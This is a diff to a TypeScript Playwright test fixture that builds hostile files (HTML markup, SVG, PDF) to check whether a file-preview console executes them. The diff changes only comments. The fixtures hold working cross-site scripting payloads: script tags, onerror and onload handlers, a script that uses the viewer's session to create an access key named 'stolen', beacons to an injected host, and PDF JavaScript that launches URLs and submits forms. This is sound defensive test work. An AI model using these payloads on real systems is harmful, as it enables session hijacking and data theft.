@@ -1,4 +1,4 @@
-/** Files that do harm where a console shows them as what they are: each tries to run, to call and to tell. */
+/** Files that do harm if a console shows them by their type: each tries to run, to call and to report. */
 
 import type { Locator, Page } from 'playwright-core';
 import { eventually } from '../harness/waiting.ts';
@@ -11,12 +11,12 @@ interface HostileFile {
   readonly seen: (preview: Locator, page: Page) => Promise<unknown>;
 }
 
-/** What a script would do with the session of who looks. */
+/** Possible abuse by a script with the session of the viewer. */
 const script = (host: string) => `document.title = 'ran'; top.document.title = 'ran';
 fetch('/api/account/access-keys', { method: 'POST', body: JSON.stringify({ name: 'stolen' }),
 headers: { 'content-type': 'application/json' } }); fetch('${host}/script'); new Image().src = '${host}/image';`;
 
-/** Markup that runs a script and asks `host` in every way there is. */
+/** Markup that runs a script and sends requests to `host` in every possible way. */
 export const hostileTags = (host: string) => `<script>${script(host)}</script>
 <img src="x:" onerror="${script(host)}"><img src="${host}/img"><svg onload="${script(host)}"></svg>
 <iframe src="${host}/iframe"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
@@ -47,7 +47,7 @@ const svg = (
 ${script(host)}//]]></script><image href="${host}/svg" width="9" height="9"/><rect width="40" height="30"/>
 <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${host}/inner"/></foreignObject></svg>`;
 
-/** Opened, it runs a script and goes to an address. */
+/** When opened, it runs a script and goes to an address. */
 const pdf = (host: string) => `%PDF-1.7
 1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${host}/js"\\);this.submitForm\\("${host}/submit"\\);)
 /Next<</S/URI/URI(${host}/uri)>>>>>>endobj
